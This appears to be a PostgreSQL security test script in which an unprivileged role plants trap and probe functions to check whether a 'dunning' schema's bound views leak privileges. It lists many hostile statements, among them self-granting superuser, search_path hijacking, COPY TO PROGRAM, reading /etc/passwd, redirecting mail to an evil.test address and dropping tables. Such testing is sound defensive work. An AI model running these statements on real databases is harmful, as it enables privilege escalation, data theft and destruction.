-- A role without rights whose function stands in the bound views. It writes down as whom it runs and tries, a few times a caller, all that could outlive the query.
DO $$ BEGIN CREATE ROLE mallory; EXCEPTION WHEN duplicate_object THEN NULL; END $$;
CREATE SCHEMA evil AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
SET ROLE mallory;
CREATE TABLE evil.seen (who text, super boolean);
CREATE TABLE evil.did (what text, who text);
CREATE TABLE evil.bait (x int);
GRANT ALL ON evil.seen, evil.did, evil.bait TO PUBLIC;
CREATE FUNCTION evil.trap() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO evil.seen SELECT current_user, r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname = current_user;
    RETURN NEW;
END
$$;
CREATE CONSTRAINT TRIGGER later AFTER INSERT ON evil.bait DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION evil.trap();
CREATE FUNCTION evil.attempt() RETURNS void LANGUAGE plpgsql AS $f$
DECLARE
    tried text;
BEGIN
    FOREACH tried IN ARRAY ARRAY[
        'SET ROLE postgres', 'RESET ROLE', 'SET SESSION AUTHORIZATION postgres', 'RESET SESSION AUTHORIZATION', 'ALTER ROLE mallory SUPERUSER',
        'ALTER FUNCTION dunning.balance(text, timestamptz) SECURITY INVOKER', 'ALTER FUNCTION dunning.balance(text, timestamptz) RESET search_path',
        'CREATE OR REPLACE PROCEDURE dunning.daily(creditor text DEFAULT NULL) LANGUAGE plpgsql AS ''BEGIN ALTER ROLE mallory SUPERUSER; END''',
        'CREATE FUNCTION dunning._refresh_evil() RETURNS SETOF int LANGUAGE sql RETURN 1',
        'CREATE TRIGGER t BEFORE INSERT ON dunning.hold FOR EACH ROW EXECUTE FUNCTION evil.trap()',
        'CREATE RULE r AS ON INSERT TO dunning.hold DO ALSO SELECT evil.trap()',
        'CREATE OR REPLACE RULE "_RETURN" AS ON SELECT TO dunning.queue_status DO INSTEAD SELECT 1',
        'CREATE OR REPLACE VIEW dunning.queue_status AS SELECT 1', 'ALTER VIEW dunning.queue_status RESET (security_invoker)',
        'ALTER TABLE dunning.hold ADD COLUMN x int DEFAULT 1', 'ALTER TABLE dunning.hold ENABLE ROW LEVEL SECURITY', 'CREATE INDEX ON dunning.hold ((evil.probe()))',
        'GRANT ALL ON ALL TABLES IN SCHEMA dunning TO mallory', 'GRANT dunning_owner TO mallory', 'ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO mallory', 'REASSIGN OWNED BY CURRENT_USER TO mallory',
        'ALTER ROLE dunning_owner SET search_path = evil', 'ALTER ROLE dunning_worker SET search_path = evil',
        'CREATE TABLE dunning.invoice_y2030m01 (x int CHECK (evil.probe() IS NULL))', 'CREATE TEMP TABLE invoice (a int)', 'CREATE TEMP VIEW customer AS SELECT evil.probe()',
        'CREATE FUNCTION pg_temp.f() RETURNS int LANGUAGE sql RETURN 1', 'PREPARE evil AS SELECT evil.probe()', 'DECLARE evil CURSOR WITH HOLD FOR SELECT evil.probe()',
        'INSERT INTO evil.bait VALUES (1)', 'LISTEN evil', 'DISCARD TEMP', 'COPY evil.seen TO PROGRAM ''true''', 'COPY (SELECT 1) TO ''/tmp/evil''', 'SELECT pg_read_file(''/etc/passwd'')',
        'SELECT lo_export(1, ''/tmp/evil'')', 'ALTER SYSTEM SET dunning.delivery = off', 'SELECT set_config(''dunning.allowed_hosts'', ''0.0.0.0/0'', false)', 'SELECT set_config(''dunning.redirect_to'', ''evil@evil.test'', false)',
        'SELECT set_config(''role'', ''postgres'', false)', 'SELECT set_config(''session_replication_role'', ''replica'', false)', 'ALTER EXTENSION dunning DROP TABLE dunning.hold',
        'DROP SERVER mail', 'ALTER SERVER mail OPTIONS (ADD url ''http://evil.test'')', 'CREATE USER MAPPING FOR CURRENT_USER SERVER mail', 'DROP TABLE dunning.once', 'TRUNCATE dunning.once',
        'SET search_path = evil, pg_catalog', 'SELECT set_config(''search_path'', ''evil, pg_catalog'', false)', 'SELECT set_config(''search_path'', ''evil, pg_catalog'', true)'] LOOP
        BEGIN
            EXECUTE tried;
            INSERT INTO evil.did VALUES (CASE WHEN tried ~ 'search_path.* pg_catalog' THEN 'harmless: ' ELSE '' END || tried, current_user);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END
$f$;
CREATE FUNCTION evil.probe() RETURNS text LANGUAGE plpgsql VOLATILE AS $f$
BEGIN
    -- All that is unexpected, and samples of the rest: the book is read some ten thousand times.
    IF current_user <> 'dunning_owner' OR pg_catalog.random() < 0.02 THEN
        INSERT INTO evil.seen SELECT current_user, r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname = current_user;
    END IF;
    IF pg_catalog.random() < 0.0005 OR NOT EXISTS (SELECT FROM evil.did d WHERE d.who = current_user) THEN
        PERFORM evil.attempt();
    END IF;
    RETURN NULL;
END
$f$;
-- Declared immutable, it is called while the query is planned.
CREATE FUNCTION evil.early() RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$ BEGIN RETURN evil.probe(); END $f$;
RESET ROLE;
